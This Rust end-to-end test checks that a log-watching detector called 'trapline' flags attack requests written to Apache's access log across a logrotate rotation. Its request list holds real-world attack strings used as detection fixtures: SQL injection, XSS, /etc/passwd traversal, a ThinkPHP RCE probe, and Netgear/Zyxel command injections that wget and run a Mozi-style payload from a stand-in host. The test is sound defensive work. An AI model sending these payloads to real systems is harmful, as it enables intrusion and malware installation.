//! End to end with the parts a user really has: Debian's `apache2` serving real HTTP requests
//! and writing its combined access log, Debian-style `logrotate` rotating that log (with a
//! graceful apache restart in `postrotate`) while requests keep coming, and `trapline run`
//! tailing the log with the shipped rules.
//!
//! Every request carries a unique marker in its User-Agent (`e2e-marker-NNN`), so each
//! detection maps back to the request that caused it. Attacks must each be detected exactly
//! once by the rules they are tagged with; benign requests must never be detected.
//!
//! Without `apache2` or `logrotate` the test is reported as ignored, unless
//! `TRAPLINE_E2E_REQUIRED=1` is set (as in CI), in which case it fails.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::apache::{self, APACHE, Apache, is_root};
use common::{Daemon, detections, wait_for};

const MARKER: &str = "e2e-marker-";
const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

/// One HTTP request sent to apache. `rules` empty = benign.
struct Req {
    method: &'static str,
    target: &'static str,
    ua: &'static str,
    body: &'static str,
    rules: &'static [&'static str],
}

const fn get(target: &'static str) -> Req {
    Req { method: "GET", target, ua: FIREFOX, body: "", rules: &[] }
}

const fn attack(method: &'static str, target: &'static str, rules: &'static [&'static str]) -> Req {
    Req { method, target, ua: FIREFOX, body: "", rules }
}

/// Benign and attack requests, interleaved; the first half is sent before the rotation, the
/// second half while and after logrotate runs. Comments say what apache logs for the odd ones.
fn requests() -> Vec<Req> {
    vec![
        get("/"),
        attack("GET", "/phpMyAdmin/index.php?pma_username=root&pma_password=toor", &["honeypot.phpmyadmin-login"]),
        get("/index.html"),
        attack("GET", "/item.php?id=1+UNION+SELECT+1,2", &["honeypot.sqli"]),
        get("/about.html"),
        attack("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", &["honeypot.xss"]),
        get("/images/logo.png"),
        // POST with a body: only the request line is logged.
        Req {
            body: "remote_submit_Flag=1&remote_host=%3Bcd+%2Ftmp",
            ..attack("POST", "/cgi-bin/ViewLog.asp", &["honeypot.zyxel"])
        },
        get("/search?q=tom+and+jerry"),
        attack("GET", "/?XDEBUG_SESSION_START=phpstorm", &["honeypot.xdebug"]),
        Req { ua: GOOGLEBOT, ..get("/") },
        // Backslashes are logged escaped: `/Index/\\think\\app/...`.
        attack(
            "GET",
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
            &["honeypot.thinkphp"],
        ),
        // A `..` segment: apache answers 400 (AH10244 invalid URI path) and logs the raw target.
        attack("GET", "/static/../../../etc/passwd", &["honeypot.traversal", "honeypot.etc-passwd"]),
        // ---- second half: sent while logrotate rotates and apache restarts gracefully ----
        get("/blog/2024/10/hello-world"),
        Req { body: "deviceName=x", ..attack("POST", "/goform/setUsbUnload/.js", &["honeypot.tenda"]) },
        get("/css/site.css"),
        attack("GET", "/shell?cd+/tmp;wget+http://192.0.2.5/x", &["honeypot.shell-download"]),
        get("/docs/v1..v2/diff"),
        attack("GET", "/robots.txt", &["honeypot.site-mapping"]),
        get("/search?q=100%25+cotton"),
        attack(
            "GET",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.5:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
            &["honeypot.netgear"],
        ),
        Req { method: "HEAD", ..get("/index.html") },
        // CVE-2021-41773 shape: 400 from apache, logged as sent.
        attack("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", &["honeypot.etc-passwd"]),
        get("/images/logo.png"),
        attack(
            "GET",
            "/%2e%2e/%2e%2e/%2e%2e/%65%74%63/%70%61%73%73%77%64",
            &["honeypot.obfuscation", "honeypot.etc-passwd"],
        ),
        Req { ua: GOOGLEBOT, ..get("/about.html") },
    ]
}

/// Files under the DocumentRoot, so every benign request is answered 200.
const SITE: &[&str] = &[
    "index.html",
    "about.html",
    "images/logo.png",
    "css/site.css",
    "search",
    "blog/2024/10/hello-world",
    "docs/v1..v2/diff",
    "robots.txt",
];

/// Runs under libtest-mimic (`harness = false`) so that a missing prerequisite is reported as
/// *ignored*, not as a pass: whether it is missing is only known at run time.
fn main() {
    let args = libtest_mimic::Arguments::from_args();
    let required = std::env::var("TRAPLINE_E2E_REQUIRED").is_ok_and(|v| v == "1");
    let prerequisites = prerequisites();
    // Required but missing: not ignored, so that the trial runs and fails with the reason.
    let ignored = prerequisites.is_err() && !required;
    if let Err(msg) = &prerequisites
        && ignored
    {
        eprintln!("ignored: e2e_apache: {msg}");
    }
    let trial = libtest_mimic::Trial::test("apache_logrotate_trapline_end_to_end", move || match prerequisites {
        Ok(logrotate) => {
            apache_logrotate_trapline_end_to_end(&logrotate);
            Ok(())
        }
        Err(msg) if required => Err(format!("TRAPLINE_E2E_REQUIRED=1 but {msg}").into()),
        Err(msg) => Err(msg.into()),
    })
    .with_ignored_flag(ignored);
    libtest_mimic::run(&args, vec![trial]).exit();
}

/// The logrotate binary, or what is missing.
fn prerequisites() -> Result<PathBuf, String> {
    let logrotate = ["/usr/sbin/logrotate", "/sbin/logrotate", "/usr/bin/logrotate"]
        .into_iter()
        .map(PathBuf::from)
        .find(|p| p.exists());
    let mut missing = apache::missing();
    if logrotate.is_none() {
        missing.push("logrotate");
    }
    match logrotate {
        Some(l) if missing.is_empty() => Ok(l),
        _ => Err(format!("{} not installed (apt-get install apache2 logrotate)", missing.join(", "))),
    }
}

fn apache_logrotate_trapline_end_to_end(logrotate: &Path) {
    // Drop order matters: daemon and apache stop before the directory is removed.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_path_buf();
    // Apache's workers run as www-data when we are root: they must reach the DocumentRoot.
    std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
    let logs = root.join("logs");
    let access = logs.join("access.log");
    let out = root.join("out/out.txt");
    for d in ["logs", "out", "apache/run", "trapline"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }

    let apache = Apache::start(&root, SITE);
    assert_eq!(apache.access_log, access);
    let first_inode = apache.access_inode();

    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let config = root.join("trapline/trapline.yml");
    std::fs::write(
        &config,
        format!(
            "rules: [{rules}]\nstate_dir: {state}\nsources:\n  - name: apache\n    paths: [{access}]\n    format: combined\n    start: end\nactions:\n  log: {{path: {out}, format: json, console: false}}\n",
            rules = rules.display(),
            state = root.join("trapline/state").display(),
            access = access.display(),
            out = out.display(),
        ),
    )
    .unwrap();
    let mut daemon = Daemon::start(&config);

    let reqs = requests();
    let half = reqs.len() / 2;
    let expected_upto = |n: usize| -> BTreeSet<(usize, String)> {
        reqs[..n].iter().enumerate().flat_map(|(i, r)| r.rules.iter().map(move |id| (i, id.to_string()))).collect()
    };
    let mut statuses = vec![0u16; reqs.len()];

    // Phase 1: half the requests, all detected before anything is rotated.
    for (i, r) in reqs[..half].iter().enumerate() {
        statuses[i] = send(apache.port, i, r);
    }
    wait_detected(&out, &expected_upto(half), &access, &daemon, "before rotation");

    // Phase 2: logrotate (rename, create, graceful restart in postrotate) while requests keep
    // coming: some land in the renamed file before apache reopens its log, some in the new one.
    let lr_conf = root.join("logrotate.conf");
    std::fs::write(&lr_conf, logrotate_conf(&access, &apache.conf)).unwrap();
    let lr = Command::new(logrotate)
        .arg("-f")
        .arg("-s")
        .arg(root.join("logrotate.state"))
        .arg(&lr_conf)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run logrotate");
    for (i, r) in reqs.iter().enumerate().skip(half) {
        statuses[i] = send(apache.port, i, r);
    }
    let lr = lr.wait_with_output().unwrap();
    assert!(
        lr.status.success(),
        "logrotate failed ({}):\n{}{}",
        lr.status,
        String::from_utf8_lossy(&lr.stdout),
        String::from_utf8_lossy(&lr.stderr)
    );

    // The log really was rotated: the old file renamed to access.log.1, a new access.log.
    let rotated = logs.join("access.log.1");
    assert!(rotated.exists(), "logrotate did not produce {}", rotated.display());
    assert_eq!(std::fs::metadata(&rotated).unwrap().ino(), first_inode, "access.log.1 is not the old access.log");
    assert_ne!(std::fs::metadata(&access).unwrap().ino(), first_inode, "access.log was not replaced");

    let all = expected_upto(reqs.len());
    wait_detected(&out, &all, &access, &daemon, "after rotation");

    // Apache logged every request exactly once (across both files): the ground truth.
    let lines = access_lines(&[&rotated, &access]);
    for (i, r) in reqs.iter().enumerate() {
        let n = lines.iter().filter(|(_, l)| marker_of(l) == Some(i)).count();
        assert_eq!(n, 1, "request {i} ({}) appears {n} times in apache's logs", r.target);
    }

    // Give any late duplicate a chance to show, then check: exactly once, nothing benign.
    std::thread::sleep(Duration::from_millis(1500));
    // Detections only: stopping closes the attackers' roll-ups, which adds their records.
    let detection_lines = |p: &Path| -> Vec<String> {
        std::fs::read_to_string(p)
            .unwrap()
            .lines()
            .filter(|l| !l.contains("\"kind\":\"rollup\""))
            .map(str::to_string)
            .collect()
    };
    let before = detection_lines(&out);
    check(&reqs, &all, &counts(&out));

    let took = daemon.signal("TERM");
    assert!(took < Duration::from_secs(5), "SIGTERM took {took:?}");
    assert!(!daemon.stderr().contains("panicked"), "trapline panicked:\n{}", daemon.stderr());
    let after = detection_lines(&out);
    assert_eq!(before, after, "detections changed after SIGTERM");
    let c = counts(&out);
    check(&reqs, &all, &c);

    // Summary.
    let file_of =
        |i: usize| lines.iter().find(|(_, l)| marker_of(l) == Some(i)).map_or("?", |(f, _)| f.as_str()).to_string();
    eprintln!(
        "\ne2e_apache: {} requests, {} detections, apache port {}",
        reqs.len(),
        detections(&out).len(),
        apache.port
    );
    for (i, r) in reqs.iter().enumerate() {
        let fired: Vec<&str> = c.keys().filter(|(m, _)| *m == i).map(|(_, id)| id.as_str()).collect();
        let what = if fired.is_empty() { "-".to_string() } else { fired.join(", ") };
        let t: String = r.target.chars().take(60).collect();
        eprintln!("  {i:>2} {:<4} {:<60} {} {:<12} {what}", r.method, t, statuses[i], file_of(i));
    }
    eprintln!("apache's log lines for the requests it rejected (non-2xx):");
    for (_, l) in lines.iter().filter(|(_, l)| !l.contains("\" 200 ")) {
        eprintln!("  {l}");
    }
}

/// Waits (≤ 20 s) until every expected (marker, rule) pair has a detection.
fn wait_detected(out: &Path, expected: &BTreeSet<(usize, String)>, log: &Path, d: &Daemon, when: &str) {
    let missing = || -> Vec<(usize, String)> {
        let c = counts(out);
        expected.iter().filter(|k| !c.contains_key(*k)).cloned().collect()
    };
    if !wait_for(Duration::from_secs(20), || missing().is_empty()) {
        let logs = access_lines(&[&log.with_extension("log.1"), log]);
        panic!(
            "{when}: missing detections (request, rule): {:?}\napache logged:\n{}\ntrapline stderr (tail):\n{}",
            missing(),
            logs.iter().map(|(f, l)| format!("  [{f}] {l}\n")).collect::<String>(),
            tail(&d.stderr(), 40)
        );
    }
}

/// Asserts each expected pair was detected exactly once, and nothing else for the requests
/// (an attack may also match another rule, but never twice; a benign request never).
fn check(reqs: &[Req], expected: &BTreeSet<(usize, String)>, c: &BTreeMap<(usize, String), usize>) {
    for k in expected {
        assert_eq!(
            c.get(k).copied(),
            Some(1),
            "request {} rule {}: want exactly one detection, counts: {c:?}",
            k.0,
            k.1
        );
    }
    for ((i, id), n) in c {
        assert!(*i < reqs.len(), "detection with unknown marker {i} ({id})");
        assert!(!reqs[*i].rules.is_empty(), "benign request {i} ({}) detected by {id}", reqs[*i].target);
        assert_eq!(*n, 1, "request {i} ({}) detected {n} times by {id}", reqs[*i].target);
    }
}

/// Detections per (request marker, rule id). A detection without a marker is a failure.
fn counts(out: &Path) -> BTreeMap<(usize, String), usize> {
    let mut m = BTreeMap::new();
    for d in detections(out) {
        let line = d["line"].as_str().unwrap_or_default();
        let id = d["rule"]["id"].as_str().unwrap_or_default().to_string();
        let i = marker_of(line).unwrap_or_else(|| panic!("detection {id} of a line without a marker: {line}"));
        // Rules of the same class on one line are merged into one detection (`also`).
        let also = d["also"].as_array().into_iter().flatten().filter_map(|a| a.as_str()).map(str::to_string);
        for id in std::iter::once(id.clone()).chain(also) {
            *m.entry((i, id)).or_default() += 1;
        }
    }
    m
}

fn marker_of(line: &str) -> Option<usize> {
    let rest = &line[line.find(MARKER)? + MARKER.len()..];
    rest[..rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len())].parse().ok()
}

/// (file name, line) of every line of the given logs that exist.
fn access_lines(files: &[&Path]) -> Vec<(String, String)> {
    files
        .iter()
        .flat_map(|f| {
            let name = f.file_name().unwrap().to_string_lossy().to_string();
            let text = std::fs::read_to_string(f).unwrap_or_default();
            text.lines().map(|l| (name.clone(), l.to_string())).collect::<Vec<_>>()
        })
        .collect()
}

fn tail(s: &str, n: usize) -> String {
    let lines: Vec<&str> = s.lines().collect();
    lines[lines.len().saturating_sub(n)..].join("\n")
}

/// Sends one raw HTTP/1.1 request (the exact bytes of the target reach apache) and reads the
/// whole response; returns the status code.
fn send(port: u16, marker: usize, r: &Req) -> u16 {
    let ua = format!("{} {MARKER}{marker:03}", r.ua);
    let mut req = format!(
        "{} {} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: {ua}\r\nAccept: */*\r\nConnection: close\r\n",
        r.method, r.target
    );
    if !r.body.is_empty() {
        req.push_str(&format!(
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n",
            r.body.len()
        ));
    }
    req.push_str("\r\n");
    req.push_str(r.body);

    // Only connecting is retried: once bytes are sent, a retry could log the request twice.
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut s = loop {
        match TcpStream::connect(("127.0.0.1", port)) {
            Ok(s) => break s,
            Err(e) if Instant::now() < deadline => {
                eprintln!("connect to apache failed ({e}), retrying");
                std::thread::sleep(Duration::from_millis(100));
            }
            Err(e) => panic!("cannot connect to apache on port {port}: {e}"),
        }
    };
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(req.as_bytes()).unwrap();
    let mut resp = Vec::new();
    s.read_to_end(&mut resp).unwrap_or_else(|e| panic!("reading the response to {} {}: {e}", r.method, r.target));
    let head = String::from_utf8_lossy(&resp[..resp.len().min(64)]).to_string();
    let status: u16 = head
        .strip_prefix("HTTP/1.1 ")
        .and_then(|s| s.get(..3))
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("bad response to {} {}: {head:?}", r.method, r.target));
    if r.rules.is_empty() {
        assert_eq!(status, 200, "benign {} {} was not served", r.method, r.target);
    }
    status
}

/// Debian's logrotate config for apache (/etc/logrotate.d/apache2), pointed at our instance.
fn logrotate_conf(log: &Path, apache_conf: &Path) -> String {
    let has_adm = std::fs::read_to_string("/etc/group").unwrap_or_default().lines().any(|l| l.starts_with("adm:"));
    let create = if is_root() && has_adm { "create 640 root adm" } else { "create" };
    format!(
        "{log} {{\n\tdaily\n\tmissingok\n\trotate 3\n\tcompress\n\tdelaycompress\n\tnotifempty\n\t{create}\n\tsharedscripts\n\tpostrotate\n\t\t{APACHE} -f '{conf}' -k graceful\n\tendscript\n}}\n",
        log = log.display(),
        conf = apache_conf.display(),
    )
}
